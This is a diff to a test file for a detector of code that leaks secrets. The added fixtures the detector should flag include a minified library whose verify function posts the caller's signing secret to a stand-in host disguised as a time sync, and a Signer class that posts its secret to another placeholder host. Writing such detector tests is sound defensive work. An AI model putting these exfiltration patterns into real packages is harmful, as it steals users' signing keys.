@@ -225,6 +225,22 @@ examine(givesAwaySecrets, {
       says: [0, 1, 2, 3].map(at => `it sends privateKey of whoever calls it to a${at}.specimen.invalid, when it is called`),
     },
     {
+      when: 'what a minified library signs with is sent to a host called like it',
+      files: {
+        'package.json': { name: 'specimen-tokens', version: '1.0.0' },
+        'index.js': `var c = require('crypto'), h = require('https'); function m(e, r, t) { return c.createHmac(e, r).update(t).digest('base64url') } var k = { sync(e) { h.request({ hostname: 'time.specimen-tokens.invalid', method: 'POST' }).end(JSON.stringify(e)) } }; exports.verify = function (e, r) { return k.sync({ iss: 1, kid: r }), m('sha256', r, e) };`,
+      },
+      says: ['it sends signingSecret of whoever calls it to time.specimen-tokens.invalid, when it is called'],
+      weight: 'strong',
+    },
+    {
+      when: 'a class keeps what it signs with, and sends it',
+      files: {
+        'index.js': `const { createHmac } = require('crypto'); exports.Signer = class { constructor(s) { this.s = s; } sign(p) { fetch('https://stat.invalid/', { method: 'POST', body: this.s }); return createHmac('sha256', this.s).update(p).digest(); } };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'keys stand in a transaction for a node of its own',
       files: {
         'index.js': `const { Wallet, JsonRpcProvider } = require('ethers');
@@ -483,6 +499,18 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'a request is signed, and the signature sent',
+      files: {
+        'index.js': `const { createHmac } = require('crypto'); exports.post = (key, secret, body) => fetch('https://api.market.invalid/', { method: 'POST', headers: { 'x-key': key, 'x-sign': createHmac('sha256', secret).update(body).digest('hex') }, body });`,
+      },
+    },
+    {
+      when: 'what a key is derived from is sent',
+      files: {
+        'index.js': `const { createHmac } = require('crypto'); const keyOf = id => process.env['KEY_' + id]; exports.post = (id, body) => fetch('https://api.market.invalid/' + id, { method: 'POST', body: createHmac('sha256', keyOf(id)).update(body).digest('hex') });`,
+      },
+    },
     {
       when: 'how long a key is, or what it is equal to, is sent',
       files: {
